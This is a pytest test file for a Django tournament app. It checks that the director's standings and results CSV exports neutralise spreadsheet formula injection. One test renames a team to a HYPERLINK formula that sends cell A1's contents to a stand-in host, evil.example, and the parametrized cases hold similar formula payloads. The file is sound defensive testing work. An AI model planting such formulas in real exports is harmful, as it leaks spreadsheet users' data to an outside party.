"""The director's CSV exports never hand a spreadsheet a formula (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests.tournaments.pages.pages_world import build_world
from tournaments.models import Team
from tournaments.views.director_print import spreadsheet_safe

pytestmark = pytest.mark.django_db

ARGS = ["les-atouts", "winter-cup"]


def rows_of(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+33 6 12", "'+33 6 12"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Les Atouts", "Les Atouts"),
        (-12, -12),
        (0, 0),
        (None, None),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(cell, written):
    assert spreadsheet_safe(cell) == written


def test_both_exports_neutralise_a_team_named_like_a_formula(client):
    world = build_world()
    team = Team.objects.filter(tournament=world.tournament).order_by("seed").first()
    team.name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    team.save(update_fields=["name"])
    client.force_login(world.director)

    for name in ("director_export_standings", "director_export_results"):
        rows = rows_of(client.get(reverse(f"tournaments:{name}", args=ARGS)))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + team.name in cells, name
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), name
        # Negative figures stay numbers.
        assert all(not cell.startswith("-") or cell.lstrip("-").isdigit() for cell in cells)
